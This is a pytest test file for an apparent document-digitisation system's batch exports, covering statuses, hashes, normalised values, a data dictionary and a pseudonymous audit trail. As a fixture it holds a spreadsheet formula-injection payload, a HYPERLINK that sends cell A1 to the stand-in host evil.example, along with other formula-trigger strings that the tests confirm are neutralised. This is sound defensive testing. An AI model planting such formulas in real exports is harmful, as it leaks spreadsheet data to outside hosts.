"""What an archive takes from a batch: every document with its status, raw and normalised
values, the file's hash, CSV cells no spreadsheet runs, a data dictionary and an audit trail."""

from __future__ import annotations

import io
import json
import re
import secrets
from typing import Any

import pandas as pd
import pytest
from sqlalchemy import func, insert, select

from kerani.core.settings import Settings
from kerani.core.vocabulary import PageStatus, ScanStatus
from kerani.flows.documents import finish_ready_documents
from kerani.forms.templates import load_template
from kerani.ingest.batches import record_scan
from kerani.microtasks.answers import submit_answer
from kerani.microtasks.audit import log_view
from kerani.microtasks.leases import claim_next
from kerani.people.workers import add_person, person_by_code
from kerani.records.audit_trail import AUDIT_COLUMNS, audit_frame
from kerani.records.dictionary import normalised_value
from kerani.records.exports import (
    FORMATS,
    export_batch,
    neutralise_cell,
    read_export,
    records_frame,
    restore_cell,
)
from kerani.storage import schema
from kerani.storage.database import utcnow
from kerani.storage.stores import Stores
from tests.factories import add_fields, add_page, new_batch

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
# Fields of the done page: (name, type, OCR guess, confidence). The sure ones are trusted.
DONE_PAGE = [
    ("full_name", "text", "ocr name", 40.0),
    ("ic_number", "ic_number", "900312-14-5568", 99.0),
    ("date_of_birth", "date", "12/03/1990", 99.0),
    ("monthly_income", "amount", "1234", 40.0),
    ("address", "text", "ocr address", 40.0),
]
# What people type on the done page's doubtful fields.
TYPED = {
    "full_name": ("value", FORMULA),  # a worker's formula: must not run in a spreadsheet
    "monthly_income": ("value", "RM 1,234.50"),
    "address": ("value", "-"),  # a dash for none: harmless, left as it is
}
# Distinctive names: none may appear in any exported file.
NAMES = [f"Nurul Aisyah binti Worker{i}" for i in range(6)]


def _scan(stores: Stores, batch_id: str, name: str, sha: str | None, **kw: Any) -> int:
    return record_scan(
        stores.db,
        batch_id,
        name,
        size=1,
        sha256=sha,
        blob_key=kw.get("blob_key", f"originals/{sha}" if sha else None),
        status=kw.get("status", ScanStatus.ACCEPTED),
        error=kw.get("error"),
    )


def _answer_all(
    settings: Settings, stores: Stores, answers: dict[str, tuple[str, str]], names: list[str]
) -> None:
    """New workers of these names each open and answer every task they are offered, as
    `answers` says, taking a second and a half over each."""
    for name in names:
        worker = person_by_code(
            stores.db, add_person(stores.db, name, "worker", proven=True, practised=True)
        ).id
        while (task := claim_next(stores.db, worker, settings.crowd)) is not None:
            log_view(stores.db, worker, task.task_id)
            kind, value = answers[task.field_name]
            submit_answer(
                stores.db,
                task.task_id,
                worker,
                kind,
                value,
                secrets.token_hex(8),
                settings.crowd,
                duration_ms=1500,
            )


@pytest.fixture
def partial(settings: Settings, stores: Stores) -> str:
    """A batch half on its way: a done page, a page waiting for people, a page the OCR
    could not read, a page not read yet, a refused file and a refused range of pages."""
    batch = new_batch(stores)
    a = _scan(stores, batch, "a.png", "a" * 64)
    add_fields(stores, add_page(stores, a, 0, PageStatus.OCRED), DONE_PAGE)
    _answer_all(settings, stores, TYPED, NAMES[:3])
    assert finish_ready_documents(stores.db, batch) == 1
    # Only now the waiting page: its doubtful town has one answer the OCR disagrees with.
    b = _scan(stores, batch, "b.pdf", "b" * 64)
    waiting = [("full_name", "text", "SITI AMINAH", 99.0), ("city", "text", "SHAH ALAM", 40.0)]
    add_fields(stores, add_page(stores, b, 0, PageStatus.OCRED), waiting)
    _answer_all(settings, stores, {"city": ("value", "KLANG")}, NAMES[3:4])
    add_page(stores, b, 1, PageStatus.OCR_FAILED, error="too dark to read")
    c = _scan(stores, batch, "c.png", "c" * 64)
    add_page(stores, c, 0, PageStatus.INGESTED)
    _scan(stores, batch, "notes.txt", None, status="rejected", error="not an image or a PDF")
    _scan(
        stores,
        batch,
        "b.pdf (pages 3-9)",
        "b" * 64,
        blob_key=None,
        status="rejected",
        error="more pages than KERANI_INGEST_MAX_PAGES_PER_FILE (2)",
    )
    return batch


def _row(frame: pd.DataFrame, document: str, page: int | None) -> pd.Series:
    pages = frame["page"]
    match = frame[
        (frame["document"] == document) & (pages.isna() if page is None else pages == page)
    ]
    assert len(match) == 1, (document, page, frame[["document", "page", "status"]])
    return match.iloc[0]


def test_a_partial_batch_exports_every_document_with_its_status(
    stores: Stores, partial: str
) -> None:
    result = export_batch(stores.db, stores.blobs, partial)
    frame = records_frame(stores.db, partial)
    for fmt in FORMATS:
        back = read_export(stores.blobs.get(result.keys[fmt]), fmt)
        pd.testing.assert_frame_equal(back, frame, check_dtype=True)
    assert result.statuses == {"done": 1, "failed": 1, "rejected": 2, "waiting": 2}
    assert result.records == 1 and result.documents == len(frame) == 6

    done = _row(frame, "a.png", 1)
    assert done["status"] == "done" and done["waiting_fields"] == 0 and bool(done["valid"])
    assert done["text_layer"].endswith("a.png.p001.hocr")

    waiting = _row(frame, "b.pdf", 1)
    assert waiting["status"] == "waiting" and waiting["waiting_fields"] == 1
    assert pd.isna(waiting["valid"]) and pd.isna(waiting["text_layer"])
    # What is settled shows, with its provenance; what waits says so, and who has answered.
    assert waiting["full_name"] == "SITI AMINAH" and waiting["full_name__source"] == "ocr"
    assert pd.isna(waiting["city"]) and waiting["city__status"] == "waiting"
    assert waiting["city__people"] == 1 and pd.isna(waiting["city__source"])

    failed = _row(frame, "b.pdf", 2)
    assert failed["status"] == "failed" and failed["failure_reason"] == "too dark to read"
    assert pd.isna(failed["waiting_fields"]) and pd.isna(failed["full_name"])

    unread = _row(frame, "c.png", 1)
    assert unread["status"] == "waiting" and pd.isna(unread["waiting_fields"])

    refused = _row(frame, "notes.txt", None)
    assert refused["status"] == "rejected" and refused["failure_reason"] == "not an image or a PDF"
    pages = _row(frame, "b.pdf", None)
    assert pages["status"] == "rejected"
    assert pages["failure_reason"].startswith("b.pdf (pages 3-9): more pages than")

    # Each row carries the SHA-256 of its file as ingest recorded it (none: never read).
    with stores.db.connect() as conn:
        hashes = dict(
            conn.execute(
                select(schema.scans.c.filename, schema.scans.c.sha256).where(
                    schema.scans.c.batch_id == partial
                )
            )
            .tuples()
            .all()
        )
    for _, row in frame.iterrows():
        expected = hashes[row["document"]]
        assert (pd.isna(row["sha256"]) and expected is None) or row["sha256"] == expected
    assert done["sha256"] == "a" * 64 and pd.isna(refused["sha256"])
    assert list(frame["document"]) == sorted(frame["document"])  # files in name order


def test_values_come_raw_and_normalised(stores: Stores, partial: str) -> None:
    row = _row(records_frame(stores.db, partial), "a.png", 1)
    assert (row["date_of_birth"], row["date_of_birth__normalised"]) == ("12/03/1990", "1990-03-12")
    assert (row["ic_number"], row["ic_number__normalised"]) == ("900312-14-5568", "900312145568")
    assert row["monthly_income__normalised"] == "1234.50"
    assert row["full_name__normalised"] == FORMULA and row["address__normalised"] == "-"

    form = load_template("bantuan_form")
    income, dob, ic = (form.spec(n) for n in ("monthly_income", "date_of_birth", "ic_number"))
    household, postcode = form.spec("household_size"), form.spec("postcode")
    assert normalised_value(income, "text", "RM 1,234.50") == "1234.50"
    assert normalised_value(income, "text", "rm12.5") == "12.50"
    assert normalised_value(income, "text", "1.234,50") is None  # not an amount in Malaysia
    assert normalised_value(dob, "text", "31/02/1990") is None  # no such day
    assert normalised_value(dob, "text", "1990-03-12") is None  # not one of the field's formats
    assert normalised_value(ic, "text", "900312 14 5568") == "900312145568"
    assert normalised_value(ic, "text", "90031214556") is None
    assert normalised_value(household, "text", " 04 ") == "4"
    assert normalised_value(postcode, "text", " 40 000 ") == "40000"
    assert normalised_value(income, "unreadable", None) is None
    # A field's own date formats decide, also as answers are stored (D.M.YYYY as DD/MM/YYYY).
    dotted = dob.model_copy(update={"date_formats": ["DD.MM.YYYY"]})  # type: ignore[union-attr]
    assert normalised_value(dotted, "text", "05.03.2021") == "2021-03-05"
    assert normalised_value(dotted, "text", "05/03/2021") == "2021-03-05"
    us = dob.model_copy(update={"date_formats": ["MM/DD/YYYY"]})  # type: ignore[union-attr]
    assert normalised_value(us, "text", "03/05/2021") == "2021-03-05"
    assert normalised_value(None, "text", "  LOT  5 ") == "LOT 5"  # a receipt's text line


def test_formula_cells_are_neutralised_in_csv_and_read_back(stores: Stores, partial: str) -> None:
    result = export_batch(stores.db, stores.blobs, partial)
    data = stores.blobs.get(result.keys["csv"])
    plain = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    row = plain[plain["document"] == "a.png"].iloc[0]
    # A spreadsheet opening the file sees text, not a formula; a dash stays a dash.
    assert row["full_name"] == "'" + FORMULA and row["full_name__normalised"] == "'" + FORMULA
    assert row["address"] == "-" and row["monthly_income"] == "1234.50"
    assert not any(str(v).startswith("=") for v in plain.to_numpy().ravel())
    # Kerani's reader gives back what the worker typed; Parquet and JSON Lines hold it as is.
    back = read_export(data, "csv")
    assert back.loc[back["document"] == "a.png", "full_name"].iloc[0] == FORMULA
    for fmt in ("parquet", "jsonl"):
        other = read_export(stores.blobs.get(result.keys[fmt]), fmt)
        assert other.loc[other["document"] == "a.png", "full_name"].iloc[0] == FORMULA
    # The audit trail holds the typed formula too: neutralised there as well.
    audit = pd.read_csv(io.BytesIO(stores.blobs.get(result.keys["audit"])), dtype=str)
    cells = [str(v) for v in audit.to_numpy().ravel()]
    assert "'" + FORMULA in cells and not any(v.startswith("=") for v in cells)

    tricky = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx", "'=x", "''@x", "'abc", "'"]
    harmless = ["-", "+", "-12.50", "+60123456789", "1,234", "abc", "", "a=b"]
    for text in tricky + harmless:
        assert restore_cell(neutralise_cell(text)) == text
    assert all(neutralise_cell(t).startswith("'") for t in tricky[:6])
    assert all(neutralise_cell(t) == t for t in harmless)


def test_the_dictionary_describes_every_column(stores: Stores, partial: str) -> None:
    result = export_batch(stores.db, stores.blobs, partial)
    frame = records_frame(stores.db, partial)
    meaning = json.loads(stores.blobs.get(result.keys["dictionary"]))
    columns = {c["name"]: c for c in meaning["columns"]}
    assert list(columns) == list(frame.columns)
    assert meaning["template"]["name"] == "bantuan_form" and meaning["template"]["kind"] == "form"
    form = load_template("bantuan_form")
    assert meaning["fields"] == [f.name for f in form.fields]
    for f in form.fields:
        value = columns[f.name]
        assert value["label"] == {"en": f.label.en, "ms": f.label.ms}
        assert value["type"] == f.type and value["sensitivity"] == f.sensitivity
        assert value["validators"]["required"] == f.required
        assert columns[f"{f.name}__normalised"]["normalisation"]
        assert columns[f"{f.name}__source"]["label"]["ms"] == f"{f.label.ms} (sumber)"
    assert columns["ic_number"]["validators"]["checksum"] == "mykad"
    assert columns["ic_number"]["sensitivity"] == "restricted"
    assert columns["date_of_birth"]["validators"]["date_formats"] == ["DD/MM/YYYY"]
    assert columns["monthly_income"]["validators"]["range"] == {"min": "0", "max": "1000000"}
    assert "ISO 8601" in columns["date_of_birth__normalised"]["normalisation"]
    assert "empty" in columns["monthly_income__normalised"]["normalisation"]
    assert {r["name"] for r in meaning["rules"]} == {r.name for r in form.rules}
    assert set(meaning["statuses"]) >= set(frame["status"])
    assert {c["name"] for c in meaning["audit_columns"]} == set(AUDIT_COLUMNS)
    for name in ("status", "sha256", "waiting_fields", "failure_reason"):
        assert columns[name]["label"]["en"] and columns[name]["label"]["ms"]
    # The same columns, flat, for a spreadsheet.
    flat = pd.read_csv(io.BytesIO(stores.blobs.get(result.keys["dictionary_csv"])), dtype=str)
    assert list(flat["name"]) == list(frame.columns)
    ic = flat[flat["name"] == "ic_number"].iloc[0]
    assert (ic["label_ms"], ic["checksum"], ic["sensitivity"]) == (
        "No. MyKad",
        "mykad",
        "restricted",
    )


def test_a_receipts_dictionary_names_its_key_fields_and_text_lines(
    settings: Settings, stores: Stores
) -> None:
    batch = new_batch(stores, "receipt")
    scan = _scan(stores, batch, "r.jpg", "d" * 64)
    guesses = [
        ("company", "text", "KEDAI MAJU SDN BHD", 99.0),
        ("date", "date", "12/02/2018", 99.0),
        ("total", "amount", "9.00", 99.0),
        ("line_001", "line", "KEDAI MAJU SDN BHD", 99.0),
        ("line_002", "line", "TOTAL 9.00", 99.0),
    ]
    add_fields(stores, add_page(stores, scan, 0, PageStatus.OCRED), guesses)
    # Text lines always go to people; the sure key fields were trusted.
    lines = {name: ("value", text) for name, kind, text, _ in guesses if kind == "line"}
    _answer_all(settings, stores, lines, NAMES[:3])
    assert finish_ready_documents(stores.db, batch) == 1
    result = export_batch(stores.db, stores.blobs, batch)
    meaning = json.loads(stores.blobs.get(result.keys["dictionary"]))
    columns = {c["name"]: c for c in meaning["columns"]}
    assert meaning["key_fields"] == ["company", "date", "total"]
    assert meaning["text_lines"] == ["line_001", "line_002"] and meaning["fields"] == []
    assert columns["total"]["role"] == "key field"
    assert columns["total"]["label"] == {"en": "Total paid", "ms": "Jumlah dibayar"}
    assert columns["line_002"]["role"] == "line"
    assert columns["line_002"]["label"] == {"en": "Text line 2", "ms": "Baris teks 2"}
    row = records_frame(stores.db, batch).iloc[0]
    assert (row["date__normalised"], row["total__normalised"]) == ("2018-02-12", "9.00")


def test_the_audit_trail_has_every_answer_by_pseudonym_and_how_each_value_settled(
    stores: Stores, partial: str
) -> None:
    result = export_batch(stores.db, stores.blobs, partial)
    data = stores.blobs.get(result.keys["audit"])
    audit = read_export(data, "csv", {n: c.dtype for n, c in AUDIT_COLUMNS.items()})
    assert list(audit.columns) == list(AUDIT_COLUMNS)
    f, p, t, a, w = (
        schema.fields,
        schema.pages,
        schema.tasks,
        schema.answers,
        schema.workers,
    )
    with stores.db.connect() as conn:
        answers = conn.execute(
            select(a.c.worker_id, a.c.kind, a.c.value, f.c.name)
            .join(t, t.c.id == a.c.task_id)
            .join(f, f.c.id == t.c.field_id)
            .join(p, p.c.id == f.c.page_id)
            .where(p.c.batch_id == partial)
        ).all()
        fields = conn.execute(
            select(func.count())
            .select_from(f)
            .join(p, p.c.id == f.c.page_id)
            .where(p.c.batch_id == partial)
        ).scalar_one()
        names = conn.execute(select(w.c.id, w.c.name)).tuples().all()
    given = audit[audit["event"] == "answer"]
    assert len(given) == len(answers) > 0  # one line per answer
    assert sorted(zip(given["who"], given["field"], given["value"], strict=True)) == sorted(
        (f"W{x.worker_id}", x.name, x.value) for x in answers
    )
    assert all(re.fullmatch(r"W\d+", who) for who in given["who"])
    assert (given["duration_ms"] == 1500).all() and (given["task_kind"] == "field").all()
    # One OCR line per field read (one engine here), with its confidence and evidence.
    ocr = audit[audit["event"] == "ocr"]
    assert len(ocr) == fields and ocr["guess"].all() and ocr["evidence"].notna().all()

    def how(document: str, page: int, field: str) -> set[str]:
        mine = audit[
            (audit["document"] == document) & (audit["page"] == page) & (audit["field"] == field)
        ]
        return set(mine["settled_how"])

    assert how("a.png", 1, "ic_number") == {"auto_accepted"}
    assert how("a.png", 1, "full_name") == {"consensus"}
    assert how("b.pdf", 1, "city") == {"waiting"}
    income = audit[(audit["field"] == "monthly_income") & (audit["event"] == "answer")]
    assert (income["settled_value"] == "1234.50").all() and (income["agreement"] > 0).all()
    assert (income["viewers"] == income["who"].nunique()).all()  # each opened it once
    # People are never named: not in the audit, the records or the dictionary.
    for key in result.keys.values():
        text = stores.blobs.get(key).decode("utf-8", errors="replace")
        leaked = [name for _, name in names if name in text]
        assert leaked == [], (key, leaked)


def test_a_page_repeated_from_an_earlier_batch_is_like_any_page(
    stores: Stores, partial: str
) -> None:
    """Done with the copy of its first reading's record; else waiting on that page's fields,
    whose evidence is its audit trail."""
    p, r = schema.pages, schema.records
    with stores.db.connect() as conn:
        first = dict(
            conn.execute(
                select(p.c.source_sha256, p.c.id).where(
                    p.c.batch_id == partial, p.c.page_index == 0
                )
            )
            .tuples()
            .all()
        )
        record = conn.execute(select(r.c.data).where(r.c.page_id == first["a" * 64])).scalar_one()
    again = new_batch(stores)
    dup = {}
    for name, sha in (("a again.png", "a" * 64), ("b again.pdf", "b" * 64)):
        scan = _scan(stores, again, name, sha)
        dup[sha] = add_page(stores, scan, 0, PageStatus.DUPLICATE, duplicate_of=first[sha])
    # As ingest links a repeat of a page already assembled: its record is copied.
    with stores.db.begin() as conn:
        conn.execute(
            insert(r).values(
                page_id=dup["a" * 64], batch_id=again, data=record, assembled_at=utcnow()
            )
        )
    frame = records_frame(stores.db, again)
    done, waiting = _row(frame, "a again.png", 1), _row(frame, "b again.pdf", 1)
    assert (done["status"], done["full_name"], done["sha256"]) == ("done", FORMULA, "a" * 64)
    assert (waiting["status"], waiting["waiting_fields"]) == ("waiting", 1)
    assert waiting["full_name"] == "SITI AMINAH" and waiting["city__people"] == 1

    audit = audit_frame(stores.db, again)
    first_audit = audit_frame(stores.db, partial)
    answered = first_audit[first_audit["document"].isin(["a.png", "b.pdf"])]
    assert set(audit["document"]) == {"a again.png", "b again.pdf"}
    assert len(audit[audit["event"] == "answer"]) == len(answered[answered["event"] == "answer"])
